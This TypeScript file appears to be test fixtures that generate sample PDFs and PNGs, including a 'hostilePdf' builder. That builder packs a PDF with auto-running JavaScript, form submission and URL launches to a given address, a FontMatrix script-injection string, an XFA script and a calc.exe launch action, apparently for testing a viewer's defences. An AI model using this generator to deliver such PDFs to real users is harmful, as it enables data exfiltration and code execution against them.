import { once } from "node:events";
import { crc32, deflateSync } from "node:zlib";
import PDFDocument from "pdfkit";

/** A PDF with a line of text on each page. */
export async function pdfOf(lines: string[], options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const doc = new PDFDocument({ size: "A4", autoFirstPage: false, ...options });
  const pieces: Buffer[] = [];
  doc.on("data", (piece: Buffer) => pieces.push(piece));
  const ended = once(doc, "end");
  for (const line of lines) doc.addPage().fontSize(24).text(line).rect(72, 200, 300, 200).fill("#0d5a66");
  doc.end();
  await ended;
  return Buffer.concat(pieces);
}

/**
 * A PDF of one page that asks for everything a PDF can ask for: scripts when it opens, when
 * the page is seen and when it closes, programs to start, and addresses to go to.
 *
 * @param address where it would have whoever opens it go
 */
export function hostilePdf(address: string): Buffer {
  const script = `app.alert("opened"); this.submitForm("${address}/form"); app.launchURL("${address}/launched", true);`;
  const uri = `<< /S /URI /URI (${address}/uri) /Next << /S /JavaScript /JS (${escaped(script)}) >> >>`;
  const content = "BT /F1 24 Tf 72 720 Td (A contract like any other) Tj ET";
  return pdfFrom([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${uri}
      /AA << /WC << /S /JavaScript /JS (${escaped(script)}) >> /DS << /S /JavaScript /JS (${escaped(script)}) >> >>
      /Names << /JavaScript << /Names [(all) << /S /JavaScript /JS (${escaped(script)}) >>] >> >>
      /AcroForm << /Fields [6 0 R] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>alert(1)</script></xdp:xdp>) >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R 6 0 R 7 0 R]
      /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [0.1 0 0 0.1 0 (1\\); alert\\(1\\))] >> >> >>
      /AA << /O << /S /JavaScript /JS (${escaped(script)}) >> >> >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${address}/link) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 640] /V (filled in)
      /AA << /F << /S /JavaScript /JS (${escaped(script)}) >> /K << /S /JavaScript /JS (${escaped(script)}) >> >> >>`,
    `<< /Type /Annot /Subtype /Screen /Rect [0 0 595 842] /A << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >> >>`,
  ]);
}

const escaped = (text: string) => text.replace(/[\\()]/g, "\\$&");

function pdfFrom(objects: string[]): Buffer {
  let text = "%PDF-1.7\n";
  const offsets = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, "0")} 00000 n \n`;
  });
  const at = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join("")}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

/** A picture of one colour. */
export function pngOf(width: number, height: number, [red, green, blue]: [number, number, number]): Buffer {
  const line = Buffer.from([0, ...Array.from({ length: width }, () => [red, green, blue]).flat()]);
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2], 8);
  const points = deflateSync(Buffer.concat(Array.from({ length: height }, () => line)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", head),
    chunk("IDAT", points),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

function chunk(type: string, content: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type), content]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  check.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, check]);
}
